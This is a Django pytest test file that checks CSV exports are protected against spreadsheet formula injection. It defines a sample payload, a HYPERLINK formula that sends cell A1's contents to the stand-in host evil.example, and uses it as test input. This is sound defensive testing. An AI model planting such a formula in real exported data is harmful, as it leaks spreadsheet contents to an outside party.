"""Every CSV export escapes spreadsheet formulas (issue 11: CSV injection)."""

import csv
import io

import pytest
import tablib
from django.contrib import admin
from import_export.admin import ExportMixin

from config.roles import OWNER
from config.spreadsheets import SpreadsheetSafeResourceMixin, spreadsheet_safe
from inventory.models import Product
from inventory.resources import CatalogResource
from orders.services import voucher_codes_generate
from tests.factories import ProductFactory, StaffFactory, VariantFactory, VoucherFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+84909908089 call", "'+84909908089 call"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+84909908089", "+84909908089"),
        ("85000.00", "85000.00"),
        ("Mắc khén = tiêu rừng", "Mắc khén = tiêu rừng"),
        (None, None),
        (12, 12),
    ],
)
def test_text_that_would_start_a_formula_gets_a_quote(value, written):
    assert spreadsheet_safe(value) == written


def test_every_admin_export_escapes_formulas():
    """Fails when a new admin exports through a resource that skips the escaping."""
    unsafe = [
        f"{model._meta.label}: {resource.__name__}"
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
        for resource in model_admin.get_export_resource_classes(None)
        if not issubclass(resource, SpreadsheetSafeResourceMixin)
    ]

    assert unsafe == []


@pytest.mark.django_db
def test_the_catalog_export_escapes_a_formula_and_its_import_reads_it_back():
    # given: a product someone named with a formula
    VariantFactory(sku="MK-100", product=ProductFactory(slug="mk", name=HYPERLINK))

    # when
    exported = CatalogResource().export().csv
    result = CatalogResource().import_data(
        tablib.Dataset().load(exported, format="csv"), dry_run=False
    )

    # then
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["product_name"] == "'" + HYPERLINK
    assert not result.has_errors() and not result.has_validation_errors()
    assert Product.objects.get().name == HYPERLINK


@pytest.mark.django_db
def test_the_voucher_codes_export_escapes_a_formula(client):
    # given
    voucher = VoucherFactory(name=HYPERLINK, code=None)
    voucher_codes_generate(voucher=voucher, count=1, prefix="")
    client.force_login(StaffFactory(role=OWNER))

    # when
    response = client.post(
        "/admin/orders/voucher/",
        {"action": "export_unused_codes", "_selected_action": [voucher.pk]},
    )

    # then
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row[0] for row in rows[1:]] == ["'" + HYPERLINK]
